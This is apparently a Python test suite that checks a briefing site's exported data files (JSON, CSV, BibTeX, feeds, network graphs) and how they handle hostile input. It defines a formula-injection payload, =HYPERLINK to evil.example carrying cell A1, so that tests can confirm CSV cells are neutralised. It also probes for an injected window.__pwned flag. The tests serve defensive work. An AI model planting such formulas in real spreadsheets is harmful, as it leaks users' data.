"""The data files (issue 16): each read back by its own ecosystem's library, counted, sampled.

docs/data/briefing.json and the CSL-JSON with jsonschema, the CSV tables
with csv, the FollowTheMoney entities with followthemoney, BibTeX with
bibtexparser, the Atom feed with feedparser.  Hostile seed text
(tests/bad_inputs/accepted/hostile) must come back exactly, a formula-like
CSV cell must be neutralised, two builds must give the same bytes, and in
Chromium an article page carries its citation_* tags and the Data page's
links resolve.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import bibtexparser
import feedparser
import jsonschema
import networkx as nx
import pytest
import yaml
from bibtexparser.middlewares import LatexDecodingMiddleware
from followthemoney import model as ftm_model

from conftest import REPO, make_project, serve_folder
from generator import cli, export, network, offline, pipeline, render, site, tables
from test_bad_inputs import ACCEPTED, MINI_SEEDS, lay_over

CSL_SCHEMA = Path(__file__).resolve().parent / "vendor" / "csl" / "csl-data.json"
DATA_FILES = [
    "data/briefing.json", "data/briefing.schema.json", "data/actors.csv", "data/quotes.csv", "data/stances.csv",
    "data/events.csv", "data/entities.ftm.jsonl", "data/sources.bib", "data/sources.csl.json", "feed.xml",
    "data/ties.csv", "data/network.gexf", "data/network.graphml",
]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def seed(tmp_path_factory) -> tuple[pipeline.Project, pipeline.model.Briefing]:
    """The real briefing, generated once, with its model."""
    project = make_project(tmp_path_factory.mktemp("data-seed") / "seed", REPO / "seeds")
    pipeline.generate(project)
    return project, pipeline.load_briefing(project)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[pipeline.Project, pipeline.model.Briefing]:
    """The fixture briefing with hostile text, and a stance position a spreadsheet would run."""
    project = make_project(tmp_path_factory.mktemp("data-hostile") / "project", MINI_SEEDS)
    lay_over(ACCEPTED / "hostile", project.root)
    article = project.seeds / "articles" / "pact-asks-nato.yaml"
    text = article.read_text(encoding="utf-8")
    article.write_text(text.replace("position: Prefers bilateral ties.", f"position: {json.dumps(FORMULA)}"), encoding="utf-8")
    pipeline.generate(project)
    return project, pipeline.load_briefing(project)


def read(project: pipeline.Project, name: str) -> str:
    return (project.docs / name).read_text(encoding="utf-8")


def rows(project: pipeline.Project, name: str) -> list[dict[str, str]]:
    with open(project.docs / "data" / name, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def bib_entries(project: pipeline.Project) -> list:
    library = bibtexparser.parse_string(read(project, "data/sources.bib"), append_middleware=[LatexDecodingMiddleware()])
    assert library.failed_blocks == []
    return library.entries


# --------------------------------------------------------------------------- the real briefing


def test_json_validates_against_its_published_schema_and_counts_match(seed):
    project, briefing = seed
    data = json.loads(read(project, "data/briefing.json"))
    published = json.loads(read(project, "data/briefing.schema.json"))
    assert published == export.json_schema()
    jsonschema.Draft202012Validator.check_schema(published)
    jsonschema.validate(data, published)
    assert data["format_version"] == export.FORMAT_VERSION
    assert [a["id"] for a in data["articles"]] == [a.id for a in briefing.articles]
    assert len(data["actors"]) == len(briefing.actors) and len(data["terms"]) == len(briefing.terms)
    assert len(data["quotes"]) == sum(len(a.quotes) for a in briefing.articles)
    assert len(data["stances"]) == sum(len(a.stances) for a in briefing.articles)
    assert len(data["events"]) == len(briefing.events())
    assert len(data["figures"]) == sum(len(a.figures) for a in briefing.articles)
    assert len(data["roles"]) == sum(len(a.roles) for a in briefing.actors)
    assert len(data["affiliations"]) == sum(len(a.affiliations) for a in briefing.actors)
    for kind in ("articles", "actors", "terms", "quotes", "stances", "events", "figures", "roles", "affiliations"):
        ids = [record["id"] for record in data[kind]]
        assert len(ids) == len(set(ids)), kind


def test_json_sample_records(seed):
    project, briefing = seed
    data = json.loads(read(project, "data/briefing.json"))
    ivanov = next(a for a in data["actors"] if a["id"] == "viktor-ivanov")
    actor = next(a for a in briefing.actors if a.id == "viktor-ivanov")
    assert ivanov["url"] == "actors/viktor-ivanov/"
    assert (ivanov["name"], ivanov["aliases"], ivanov["description"]) == (actor.name, actor.aliases, actor.description)
    article = briefing.articles[0]
    first = data["quotes"][0]
    assert first["id"] == f"{article.id}/quote-1" and first["url"] == f"articles/{article.id}/#quote-1"
    assert (first["text"], first["speaker"]) == (article.quotes[0].text, article.quotes[0].speaker.id)
    dated = next(e for e in data["events"] if e["date"]["qualifier"])
    assert dated["date"]["text"].startswith(dated["date"]["qualifier"])


def test_export_command_prints_the_json(seed, capsys):
    project, _ = seed
    assert cli.main(["--root", str(project.root), "export", "json"]) == 0
    assert capsys.readouterr().out == read(project, "data/briefing.json")


def test_csv_tables_parse_and_match_the_model(seed):
    project, briefing = seed
    actors = rows(project, "actors.csv")
    assert [r["id"] for r in actors] == [a.id for a in briefing.actors]
    sample = next(r for r in actors if r["id"] == "viktor-ivanov")
    actor = next(a for a in briefing.actors if a.id == "viktor-ivanov")
    assert sample["name"] == actor.name and sample["aliases"] == "; ".join(actor.aliases)
    assert len(rows(project, "quotes.csv")) == sum(len(a.quotes) for a in briefing.articles)
    assert len(rows(project, "stances.csv")) == sum(len(a.stances) for a in briefing.articles)
    events = rows(project, "events.csv")
    assert [r["what"] for r in events] == [e.what for e in briefing.events()]
    assert (project.docs / "data" / "actors.csv").read_bytes().startswith(b"\xef\xbb\xbfid,name,type")


def test_network_files_read_back_as_the_graph_the_site_draws(seed):
    """GEXF and GraphML read by networkx, ties.csv by csv: the same nodes, edges and attributes."""
    project, briefing = seed
    graph = network.build_network(briefing)
    assert graph.number_of_edges() > 0
    expected = sorted((u, v, d["type"], d["weight"], d["articles"]) for u, v, d in graph.edges(data=True))
    for name in ("network.gexf", "network.graphml"):
        read_back = (nx.read_gexf if name.endswith("gexf") else nx.read_graphml)(project.docs / "data" / name)
        assert sorted(read_back.nodes) == sorted(graph.nodes), name
        tie = "tie" if name.endswith("gexf") else "type"  # GEXF keeps an edge's `type` for its direction
        found = sorted((*sorted((u, v)), d[tie], int(d["weight"]), d["articles"]) for u, v, d in read_back.edges(data=True))
        assert found == expected, name
        assert read_back.nodes["viktor-ivanov"]["label"] == "Viktor Ivanov"
    ties = rows(project, "ties.csv")
    assert sorted((r["source"], r["target"], r["type"], int(r["weight"]), " ".join(r["articles"].split("; ")))
                  for r in ties) == expected
    newest = max(a.date.start for a in briefing.articles)
    assert f'lastmodifieddate="{newest.year:04d}-' in read(project, "data/network.gexf")  # not today's date


def test_ftm_entities_validate_and_match_the_model(seed):
    project, briefing = seed
    entities = [json.loads(line) for line in read(project, "data/entities.ftm.jsonl").splitlines()]
    for data in entities:
        proxy = ftm_model.get_proxy(data)
        assert proxy.schema.validate(data) is None, data
        assert proxy.to_dict()["properties"] == data["properties"], "a value FtM would clean differently"
    assert len({e["id"] for e in entities}) == len(entities)
    schemata = [e["schema"] for e in entities]
    assert schemata.count("Person") == sum(a.type == "person" for a in briefing.actors)
    assert schemata.count("PublicBody") == sum(a.type == "state" for a in briefing.actors)
    assert schemata.count("Article") == len(briefing.articles)
    assert schemata.count("Event") == len(briefing.events())
    assert schemata.count("Occupancy") == sum(len(a.roles) for a in briefing.actors if a.type == "person")
    assert schemata.count("Documentation") == sum(len(a.appearances) for a in briefing.articles)
    ivanov = next(e for e in entities if e["schema"] == "Person" and "Viktor Ivanov" in e["properties"]["name"])
    occupancies = [e for e in entities if e["schema"] == "Occupancy" and e["properties"]["holder"] == [ivanov["id"]]]
    assert occupancies and all("post" in o["properties"] for o in occupancies)


def test_bibtex_and_csl_json_list_every_source(seed):
    project, briefing = seed
    entries = bib_entries(project)
    assert [e.key for e in entries] == [a.id for a in briefing.articles]
    assert [e["title"] for e in entries] == [a.headline for a in briefing.articles]
    items = json.loads(read(project, "data/sources.csl.json"))
    jsonschema.validate(items, json.loads(CSL_SCHEMA.read_text(encoding="utf-8")))
    assert [i["id"] for i in items] == [a.id for a in briefing.articles]
    first = briefing.articles[0]
    assert items[0]["issued"]["date-parts"][0] == [int(p) for p in first.date.start.iso().split("-")]


def test_actor_page_quote_cites_its_source(seed):
    """A quote on an actor's page names the outlet and the headline of the article it comes from."""
    project, briefing = seed
    quote = next(q for actor in briefing.actors for q in actor.quotes)
    article = quote.article
    page = read(project, quote.speaker.page)
    assert f"Source: {render._text(article.outlet.name)}" in page
    assert f"“{render._text(article.headline)}”, {render._text(article.date.label())}" in page


def test_atom_feed_parses_newest_first(seed):
    project, briefing = seed
    parsed = feedparser.parse((project.docs / "feed.xml").read_bytes())
    assert parsed.bozo == 0, parsed.get("bozo_exception")
    assert parsed.feed.title == briefing.title
    assert [e.title for e in parsed.entries] == [a.headline for a in briefing.articles]
    assert [e.content[0].value for e in parsed.entries] == [a.summary for a in briefing.articles]
    updated = [e.updated_parsed for e in parsed.entries]
    assert updated == sorted(updated, reverse=True)
    assert parsed.entries[0].link.endswith(f"articles/{briefing.articles[0].id}/")


def test_same_seeds_same_bytes(seed, tmp_path):
    project, _ = seed
    again = make_project(tmp_path / "again", REPO / "seeds")
    pipeline.generate(again)
    for name in DATA_FILES + ["data.md"]:
        assert (again.docs / name).read_bytes() == (project.docs / name).read_bytes(), name


# --------------------------------------------------------------------------- hostile text


def test_hostile_text_round_trips_in_json_csv_bibtex_and_feed(hostile):
    project, briefing = hostile
    evil = next(a for a in briefing.actors if a.id == "evil-corp")
    article = next(a for a in briefing.articles if a.id == "pact-asks-nato")
    quote = next(q for q in article.quotes if q.speaker is evil)
    data = json.loads(read(project, "data/briefing.json"))
    assert next(a for a in data["actors"] if a["id"] == "evil-corp")["name"] == evil.name
    assert next(a for a in data["actors"] if a["id"] == "evil-corp")["description"] == evil.description
    assert next(q for q in data["quotes"] if q["speaker"] == "evil-corp")["text"] == quote.text
    assert next(a for a in data["articles"] if a["id"] == article.id)["headline"] == article.headline
    actors = {r["id"]: r for r in rows(project, "actors.csv")}
    assert actors["evil-corp"]["name"] == evil.name and actors["evil-corp"]["description"] == evil.description
    assert next(r for r in rows(project, "quotes.csv") if r["speaker"] == "evil-corp")["text"] == quote.text
    bib = {e.key: e for e in bib_entries(project)}
    assert bib[article.id]["title"] == article.headline
    parsed = feedparser.parse((project.docs / "feed.xml").read_bytes())
    entry = next(e for e in parsed.entries if e.link.endswith(f"/{article.id}/"))
    assert (entry.title, entry.content[0].value) == (article.headline, article.summary)
    ties = [r for r in rows(project, "ties.csv") if "evil-corp" in (r["source"], r["target"])]
    assert ties and all(evil.name in (r["source_name"], r["target_name"]) for r in ties)
    assert nx.read_graphml(project.docs / "data" / "network.graphml").nodes["evil-corp"]["label"] == evil.name
    assert nx.read_gexf(project.docs / "data" / "network.gexf").nodes["evil-corp"]["label"] == evil.name
    front = read(project, f"articles/{article.id}.md").split("---\n")[1]
    assert yaml.safe_load(front)["citation_title"] == article.headline


def test_formula_like_cells_are_neutralised(hostile):
    project, _ = hostile
    stance = next(r for r in rows(project, "stances.csv") if r["actor"] == "nato")
    assert stance["position"] == "'" + FORMULA
    data = json.loads(read(project, "data/briefing.json"))
    assert any(s["position"] == FORMULA for s in data["stances"])  # the JSON keeps the text as written
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert tables.cell(start + "1") == "'" + start + "1"
    assert tables.cell("1-2") == "1-2" and tables.cell("") == ""


def test_bibtex_escaping_round_trips_every_special_character():
    from generator.citations import bibtex_escape

    text = r"a{b}c\d%e&f$g#h_i~j^k -- `` '' << >> ?` Café 😀"
    library = bibtexparser.parse_string(
        "@article{k,\n  title = {" + bibtex_escape(text) + "}\n}\n", append_middleware=[LatexDecodingMiddleware()],
    )
    # pylatexenc decodes \textasciicircum (LaTeX's ^) as the modifier letter U+02C6.
    assert library.entries[0]["title"].replace("\u02c6", "^") == text


# --------------------------------------------------------------------------- the built site


@pytest.fixture(scope="module")
def hostile_site(hostile) -> Path:
    """The hostile fixture's site, built by the pipeline (strict MkDocs, link check)."""
    project, _ = hostile
    site.build_site(project)
    return project.site


def test_site_and_offline_edition_carry_every_data_file(hostile, hostile_site):
    project, _ = hostile
    for name in DATA_FILES:
        assert (hostile_site / name).read_bytes() == (project.docs / name).read_bytes(), name
    edition = offline.build_offline(project)
    with zipfile.ZipFile(edition.zip_path) as packed:
        names = set(packed.namelist())
    assert {f"{offline.NAME}/{name}" for name in DATA_FILES} <= names
    shutil.rmtree(project.root / "dist")


def test_citation_tags_and_data_page_links_in_chromium(browser, hostile, hostile_site):
    project, briefing = hostile
    article = next(a for a in briefing.articles if a.id == "pact-asks-nato")
    page = browser.new_page()
    with serve_folder(hostile_site) as url:
        page.goto(f"{url}/articles/{article.id}/")
        tags = {
            name: page.locator(f'meta[name="{name}"]').get_attribute("content")
            for name in ("citation_title", "citation_publisher", "citation_publication_date")
        }
        assert tags == {
            "citation_title": article.headline,
            "citation_publisher": article.outlet.name,
            "citation_publication_date": article.date.start.iso(),
        }
        assert page.evaluate("window.__pwned") is None
        page.goto(f"{url}/data/")
        links = page.eval_on_selector_all(".md-content a[href]", "links => links.map(a => a.href)")
        files = [link for link in links if link.rsplit("/", 1)[-1] in {Path(n).name for n in DATA_FILES}]
        assert len(files) == len(DATA_FILES)
        for link in files:
            response = page.request.get(link)
            assert response.status == 200, link
            assert response.body() == (project.docs / link.removeprefix(f"{url}/")).read_bytes()
    page.close()
